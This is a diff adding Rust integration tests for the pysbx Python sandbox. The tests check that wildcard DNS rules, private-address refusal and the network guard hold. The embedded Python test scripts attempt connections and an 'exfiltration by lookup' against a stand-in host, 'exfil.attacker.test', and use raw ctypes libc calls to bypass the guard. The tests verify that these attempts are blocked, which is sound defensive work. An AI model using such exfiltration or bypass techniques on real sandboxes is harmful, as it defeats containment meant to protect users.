@@ -349,3 +349,242 @@ for ip in ("127.0.0.3", "127.0.0.1"):
     assert_eq!(refused.len(), 1, "{text}");
     assert!(refused[0]["message"].as_str().unwrap_or("").contains("127.0.0.1"), "{}", refused[0]);
 }
+
+/// A DNS server standing in for the policy's `net.resolver`: answers the names of `zone` with
+/// their addresses (A records), others with "no such name", and passes on every name it was
+/// asked, so a test sees which lookups left the sandbox.
+fn upstream_dns(zone: &'static [(&'static str, [u8; 4])]) -> (u16, mpsc::Receiver<String>) {
+    use simple_dns::rdata::{A, RData};
+    use simple_dns::{CLASS, Packet, QTYPE, RCODE, ResourceRecord, TYPE};
+    let sock = UdpSocket::bind("127.0.0.1:0").expect("bind dns");
+    let port = sock.local_addr().expect("addr").port();
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 1024];
+        while let Ok((n, from)) = sock.recv_from(&mut buf) {
+            let Ok(query) = Packet::parse(&buf[..n]) else { continue };
+            let Some(question) = query.questions.first().cloned() else { continue };
+            let name = question.qname.to_string().trim_end_matches('.').to_owned();
+            let _ = tx.send(name.clone());
+            let mut reply = Packet::new_reply(query.id());
+            match zone.iter().find(|(n, _)| *n == name) {
+                Some((_, ip)) if question.qtype == QTYPE::TYPE(TYPE::A) => {
+                    reply.answers.push(ResourceRecord::new(
+                        question.qname.clone(),
+                        CLASS::IN,
+                        60,
+                        RData::A(A { address: u32::from_be_bytes(*ip) }),
+                    ));
+                }
+                Some(_) => {}
+                None => *reply.rcode_mut() = RCODE::NameError,
+            }
+            reply.questions.push(question);
+            let _ = sock.send_to(&reply.build_bytes_vec().expect("reply"), from);
+        }
+    });
+    (port, rx)
+}
+
+const WILDCARD_ZONE: &[(&str, [u8; 4])] = &[
+    ("a.wild.test", [127, 0, 0, 2]),
+    ("c.wild.test", [127, 0, 0, 2]),
+    ("inner.wild.test", [10, 1, 2, 3]),
+    ("exfil.attacker.test", [127, 0, 0, 3]),
+];
+
+/// `*.wild.test`: names under it are resolved while the program runs, by pysbx asking the
+/// policy's resolver. 127.0.0.2 is named in `hosts:` (under a name no rule allows) only so that
+/// the resolver's loopback answer is not refused as one; nothing else allows it.
+fn wildcard_policy(s: &Scratch, port: u16, dns_port: u16, ffi: bool) -> std::path::PathBuf {
+    s.write(
+        "p.yaml",
+        &format!(
+            "net:\n  allow: [\"*.wild.test:{port}\"]\n  resolver: \"127.0.0.1:{dns_port}\"\n\
+             hosts:\n  loopback-answers-allowed.invalid: [\"127.0.0.2\"]\nffi: {ffi}\n"
+        ),
+    )
+}
+
+const WILDCARD_THROUGH_THE_GUARD: &str = r#"import socket, sys
+port = int(sys.argv[1])
+
+def tcp(host):
+    try:
+        with socket.create_connection((host, port), timeout=5) as s:
+            s.sendall(("hello " + host).encode())
+            return "ok " + s.recv(4).decode()
+    except PermissionError:
+        return "refused"
+    except OSError as e:
+        return "error " + type(e).__name__
+
+print("name under the wildcard", tcp("a.wild.test"))
+print("its address", tcp("127.0.0.2"))
+print("another address", tcp("127.0.0.3"))
+print("name answered in a private range", tcp("inner.wild.test"))
+print("the suffix itself", tcp("wild.test"))
+print("name outside the wildcard", tcp("exfil.attacker.test"))
+"#;
+
+#[test]
+fn wildcard_names_are_resolved_by_pysbx_during_the_run() {
+    let (port, [one, two, three]) = three_hosts();
+    let (dns_port, asked) = upstream_dns(WILDCARD_ZONE);
+    let s = Scratch::new();
+    let p = wildcard_policy(&s, port, dns_port, false);
+    let main = s.write("main.py", WILDCARD_THROUGH_THE_GUARD);
+    let events = s.path().join("events.jsonl");
+    let out = run(s
+        .exec()
+        .arg("--no-gate")
+        .arg("--policy")
+        .arg(&p)
+        .arg("--events")
+        .arg(&events)
+        .arg(&main)
+        .arg("--")
+        .arg(port.to_string()));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        stdout(&out),
+        "name under the wildcard ok pong\nits address ok pong\nanother address refused\n\
+         name answered in a private range error gaierror\nthe suffix itself refused\n\
+         name outside the wildcard refused\n",
+        "{}",
+        stderr(&out)
+    );
+    assert!(
+        stderr(&out).contains("`inner.wild.test` resolved to 10.1.2.3, a private address; refused"),
+        "{}",
+        stderr(&out)
+    );
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(
+        two.try_iter().collect::<Vec<_>>(),
+        vec!["hello a.wild.test".to_string(), "hello 127.0.0.2".to_string()]
+    );
+    assert_eq!(one.try_iter().count(), 0);
+    assert_eq!(three.try_iter().count(), 0);
+    // Only names under the wildcard were ever asked of the resolver.
+    let names: Vec<String> = asked.try_iter().collect();
+    assert!(names.iter().all(|n| n.ends_with(".wild.test")), "{names:?}");
+    assert!(names.iter().any(|n| n == "a.wild.test"), "{names:?}");
+    let start: serde_json::Value = serde_json::from_str(
+        std::fs::read_to_string(&events).expect("events").lines().next().expect("start line"),
+    )
+    .expect("JSON");
+    assert_eq!(start["tier"]["layers"]["namespace.net"]["state"], "applied", "{start}");
+    assert!(sandbox_processes().is_empty());
+}
+
+#[test]
+fn wildcard_names_hold_without_the_guard() {
+    let (port, [one, two, three]) = three_hosts();
+    let (dns_port, asked) = upstream_dns(WILDCARD_ZONE);
+    let s = Scratch::new();
+    let p = wildcard_policy(&s, port, dns_port, true);
+    let main = s.write(
+        "main.py",
+        r#"import ctypes, socket, struct, sys
+port = int(sys.argv[1])
+libc = ctypes.CDLL(None, use_errno=True)
+
+def tcp(ip):
+    s = socket.socket()
+    addr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(ip) + bytes(8)
+    if libc.connect(s.fileno(), addr, len(addr)) != 0:
+        return "refused"
+    data = b"raw " + ip.encode()
+    libc.send(s.fileno(), data, len(data), 0)
+    buf = ctypes.create_string_buffer(8)
+    n = libc.recv(s.fileno(), buf, 8, 0)
+    return ("ok " + buf.raw[:n].decode()) if n > 0 else "closed"
+
+class AddrInfo(ctypes.Structure):
+    pass
+AddrInfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
+                     ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32),
+                     ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
+                     ("next", ctypes.POINTER(AddrInfo))]
+
+def lookup(name):
+    res = ctypes.POINTER(AddrInfo)()
+    rc = libc.getaddrinfo(name.encode(), None, None, ctypes.byref(res))
+    return "answered" if rc == 0 else "no answer"
+
+print("address before any lookup", tcp("127.0.0.2"))
+print("exfiltration by lookup", lookup("exfil.attacker.test"))
+print("name under the wildcard", lookup("c.wild.test"))
+print("its address after the lookup", tcp("127.0.0.2"))
+print("another address", tcp("127.0.0.3"))
+"#,
+    );
+    let events = s.path().join("events.jsonl");
+    let out = run(s
+        .exec()
+        .arg("--no-gate")
+        .arg("--policy")
+        .arg(&p)
+        .arg("--events")
+        .arg(&events)
+        .arg(&main)
+        .arg("--")
+        .arg(port.to_string()));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        stdout(&out),
+        "address before any lookup closed\nexfiltration by lookup no answer\n\
+         name under the wildcard answered\nits address after the lookup ok pong\n\
+         another address closed\n",
+        "{}",
+        stderr(&out)
+    );
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(two.try_iter().collect::<Vec<_>>(), vec!["raw 127.0.0.2".to_string()]);
+    assert_eq!(one.try_iter().count(), 0);
+    assert_eq!(three.try_iter().count(), 0);
+    // The lookup outside the wildcard never left the sandbox.
+    let names: Vec<String> = asked.try_iter().collect();
+    assert!(!names.iter().any(|n| n.contains("attacker")), "{names:?}");
+    // The refused lookup and the two reset connections are violations on record.
+    let text = std::fs::read_to_string(&events).expect("events");
+    assert!(text.contains("name lookup of exfil.attacker.test"), "{text}");
+    let relayed = text.lines().filter(|l| l.contains("relay refused a TCP connection")).count();
+    assert_eq!(relayed, 2, "{text}");
+}
+
+#[test]
+fn wildcard_names_work_without_root() {
+    use std::os::unix::process::CommandExt;
+    let (port, [_one, two, _three]) = three_hosts();
+    let (dns_port, _asked) = upstream_dns(WILDCARD_ZONE);
+    let s = Scratch::new();
+    let p = wildcard_policy(&s, port, dns_port, false);
+    let main = s.write("main.py", WILDCARD_THROUGH_THE_GUARD);
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_pysbx"))
+        .current_dir(s.path())
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .env("HOME", "/nonexistent")
+        .uid(65534)
+        .gid(65534)
+        .args(["exec", "--no-config", "--no-gate", "--python", "/usr/bin/python3", "--policy"])
+        .arg(&p)
+        .arg(&main)
+        .arg("--")
+        .arg(port.to_string())
+        .output()
+        .expect("pysbx runs");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = stdout(&out);
+    assert!(
+        text.starts_with(
+            "name under the wildcard ok pong\nits address ok pong\nanother address refused\n"
+        ),
+        "{text}\n{}",
+        stderr(&out)
+    );
+    std::thread::sleep(Duration::from_millis(200));
+    assert_eq!(two.try_iter().count(), 2);
+}
